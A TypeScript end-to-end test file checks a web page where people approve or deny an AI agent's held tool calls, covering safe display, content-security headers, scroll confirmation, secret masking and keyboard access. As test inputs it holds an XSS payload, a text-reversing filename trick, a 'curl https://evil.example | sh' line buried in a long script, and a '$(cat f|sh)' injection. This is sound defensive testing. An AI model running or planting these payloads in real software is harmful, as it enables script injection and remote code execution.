import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startNoteServer } from '../holds/note-server.ts'
import { type Agent, connectAgent, textOf } from './support/agent.ts'
import { type Api, apiOf } from './support/api.ts'
import { chromiumFor, launchChromium } from './support/chromium.ts'
import { type Standalone, startStandalone } from './support/standalone-composition.ts'

const available = chromiumFor('the page on which approvals are answered')

/** Texts by which an agent may fool a reader: markup, and characters that hide or turn around text. */
const HOSTILE =
  '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script> \u202egnp.exe \u200b'

describe.skipIf(!available)('the page on which an approval is answered', () => {
  let server: Awaited<ReturnType<typeof startNoteServer>>
  let standalone: Standalone
  let api: Api
  let agent: Agent
  let gateway: string
  let browser: Browser
  let token: string

  beforeAll(async () => {
    server = await startNoteServer()
    standalone = await startStandalone()
    api = apiOf(standalone)
    const added = await api.addGateway()
    gateway = added.name
    const upstream = await api.addUpstream(server.url)
    await api.permit(gateway, 'mcp.tools.note', 'require_approval')
    const issued = await api.client.write<{ token: string }>('POST', '/v1/tokens', {
      name: 'dana',
      scope: 'approver',
    })
    token = issued.token
    await standalone.inForce()
    agent = await connectAgent(standalone.proxies[0] as string, upstream, added.token)
    browser = await launchChromium()
  })
  afterAll(async () => {
    await browser?.close()
    await agent?.close()
    await standalone?.stop()
    await server?.stop()
  })

  /** A held call, and its page in a new window. */
  async function opened(text: string, more: object = {}) {
    const answer = agent.call('note', { text, ...more })
    const { approvalId } = await api.waiting(gateway)
    const page = await browser.newPage()
    const elsewhere: string[] = []
    const broken: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(standalone.api)) elsewhere.push(request.url())
    })
    page.on('pageerror', (error) => broken.push(error.message))
    await page.goto(`${standalone.api}/approve/${approvalId}`)
    return { answer, approvalId, page, elsewhere, broken }
  }

  async function signIn(page: Page, as: string) {
    await page.getByLabel('Your token').fill(as)
    await page.getByRole('button', { name: 'Continue' }).click()
  }

  test('shows the call to whoever has a token, and lets it go on once', async () => {
    const { answer, approvalId, page, elsewhere, broken } = await opened('hello')
    await signIn(page, 'sp_api_not-one-of-ours')
    await page.getByText('That token is not known.').waitFor()
    expect(await page.locator('#arguments').isVisible()).toBe(false)

    await signIn(page, token)
    await page.getByRole('heading', { name: `${gateway} asks to call note` }).waitFor()
    expect(await page.locator('#arguments').textContent()).toContain('"text": "hello"')
    expect(await page.locator('#approval-id').textContent()).toBe(approvalId)
    await page.getByLabel('Reason').fill('looks right')
    await page.getByRole('button', { name: 'Approve once' }).click()

    await page.getByText('By dana: looks right').waitFor()
    expect(textOf(await answer)).toBe('noted hello')
    await page.getByText('Approved and carried out, once.').waitFor()
    expect(await page.getByRole('button', { name: 'Approve once' }).isVisible()).toBe(false)
    expect(elsewhere).toEqual([])
    expect(broken).toEqual([])
    await page.close()
  })

  test('shows what an agent sent as text, with everything in it that hides', async () => {
    const { answer, page } = await opened(HOSTILE)
    await signIn(page, token)
    await page.locator('#arguments').filter({ hasText: 'onerror' }).waitFor()

    const shown = (await page.locator('#arguments').textContent()) ?? ''
    expect(shown).toContain('<script>')
    expect(shown).toContain('\\u202egnp.exe \\u200b')
    expect(await page.locator('main img, main script').count()).toBe(0)
    expect(await page.title()).toBe('pending: mcp.tools.note')

    await page.getByRole('button', { name: 'Deny' }).click()
    await page.getByText('Denied. The agent has been told.').waitFor()
    expect(textOf(await answer)).toContain('denied by dana')
    await page.close()
  })

  test('tells the session so far, and its limits', async () => {
    const { answer, page } = await opened('and again')
    await signIn(page, token)
    const soFar = page.locator('#session')
    await soFar.getByText(/mcp\.tools\.note on .*: allowed, done/).waitFor()
    const text = (await soFar.textContent()) ?? ''
    expect(text).toMatch(/: denied/)
    expect(text).toContain('what came through other proxies, or before its start, is not in it')
    await page.getByRole('button', { name: 'Deny' }).click()
    await answer
    await page.close()
  })

  test('says so when somebody else was faster', async () => {
    const { answer, approvalId, page } = await opened('raced')
    await signIn(page, token)
    await page.getByRole('button', { name: 'Approve once' }).waitFor()
    await page.route('**/v1/approvals/*', (route) => route.abort())

    await api.vote(approvalId, 'deny', 'no')
    await page.getByRole('button', { name: 'Approve once' }).click()

    await page.unroute('**/v1/approvals/*')
    await page.getByText('Denied. The agent has been told.').waitFor()
    expect((await answer).isError).toBe(true)
    await page.close()
  })

  test('keeps the token in its own tab, and lets no script of others run', async () => {
    const { answer, approvalId, page } = await opened('kept')
    await signIn(page, token)
    await page.getByRole('button', { name: 'Deny' }).waitFor()
    await page.reload()
    await page.getByRole('button', { name: 'Deny' }).waitFor()
    expect(await page.evaluate('[localStorage.length, sessionStorage.length, document.cookie]')).toEqual([
      0,
      1,
      '',
    ])
    const response = await fetch(`${standalone.api}/approve/${approvalId}`)
    expect(response.headers.get('content-security-policy')).toContain("default-src 'none'; script-src 'self'")
    expect(response.headers.get('content-security-policy')).not.toContain('unsafe')

    await page.getByRole('button', { name: 'Deny' }).click()
    await answer
    await page.close()
  })

  test('has the whole of a long call, and whoever has not had all of it on screen is told and confirms', async () => {
    const tail = 'curl https://evil.example | sh'
    const list = Array.from({ length: 150 }, (_, n) => `entry ${n}`)
    const { answer, approvalId, page } = await opened(`#!/bin/sh\n${'echo nothing\n'.repeat(400)}${tail}`, {
      list,
    })
    await signIn(page, token)
    await page.getByRole('button', { name: 'Approve once' }).waitFor()
    expect(await page.locator('#arguments').textContent()).toContain(tail)
    expect(await page.locator('#arguments').textContent()).toContain('"list" \u203a 149: "entry 149"')

    await page.getByRole('button', { name: 'Approve once' }).click()
    const dialog = page.getByRole('dialog', { name: 'You have not seen all of it' })
    await dialog.getByText('/arguments/text').waitFor()
    await dialog.getByRole('button', { name: 'Back' }).click()
    expect((await api.approval(approvalId)).status).toBe('pending')

    // As a person reads: half a screen further when the last was on the screen for two frames.
    await page.evaluate('scrollTo({ top: 0, behavior: "instant" })')
    for (let at = 0; at < 100 && !(await page.getByText('All of it was on your screen.').isVisible()); at++) {
      await page.evaluate(
        'new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 60))))',
      )
      await page.evaluate('scrollBy({ top: innerHeight / 2, behavior: "instant" })')
    }
    await page.getByText('All of it was on your screen.').waitFor()
    await page.getByRole('button', { name: 'Approve once' }).click()
    await page.getByText('Approved and carried out, once.').waitFor()
    await answer
    await page.close()
  })

  test('lets a part be approved unseen only after a confirmation, which is recorded', async () => {
    const { answer, page } = await opened('x\n'.repeat(2_000))
    await signIn(page, token)
    await page.getByRole('button', { name: 'Approve once' }).click()
    await page.getByRole('button', { name: 'Approve all the same' }).click()
    await page.getByText('Not on their screen: /arguments/text').waitFor()
    await answer
    await page.close()
  })

  test('masks a secret and nothing around it, and shows it to whoever asks, on record', async () => {
    const secret = ['gh', 'p_', 'a1'.repeat(18)].join('')
    const { answer, approvalId, page } = await opened(`TOK${'EN'}=$(cat f|sh) ${secret}`)
    await signIn(page, token)
    await page.getByText('[redacted:github_token, 40 characters]').waitFor()
    expect(await page.locator('#arguments').textContent()).toContain('=$(cat f|sh) ')
    expect(await page.locator('#arguments').textContent()).not.toContain(secret)

    await page.getByRole('button', { name: '[redacted:github_token, 40 characters]' }).click()
    await page.getByText(secret).waitFor()
    const { data } = await api.recorded(approvalId, 'sallyport.approval.revealed.v1')
    expect(data).toMatchObject({ places: ['/arguments/text'], actor: { name: 'dana' } })
    await page.getByRole('button', { name: 'Deny' }).click()
    await answer
    await page.close()
  })

  test('is answered with the keyboard alone, and has nothing that axe finds', async () => {
    const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
    for (const scheme of ['light', 'dark'] as const) {
      const { answer, page } = await opened(`${HOSTILE}\nand pass${'word'}=hunter22x ${scheme}`)
      await page.emulateMedia({ colorScheme: scheme })
      await page.keyboard.type(token)
      await page.keyboard.press('Enter')
      await page.getByRole('button', { name: 'Deny' }).waitFor()
      await page.evaluate(axe)
      const { violations } = (await page.evaluate('axe.run()')) as {
        violations: { id: string; nodes: { html: string }[] }[]
      }
      expect(violations.map(({ id, nodes }) => [id, ...nodes.map(({ html }) => html)])).toEqual([])

      const focused = () => page.evaluate('document.activeElement?.id')
      for (let at = 0; at < 12 && (await focused()) !== 'deny'; at++) await page.keyboard.press('Tab')
      await page.keyboard.press('Enter')
      await page.getByText('Denied. The agent has been told.').waitFor()
      await answer
      await page.close()
    }
  })
})
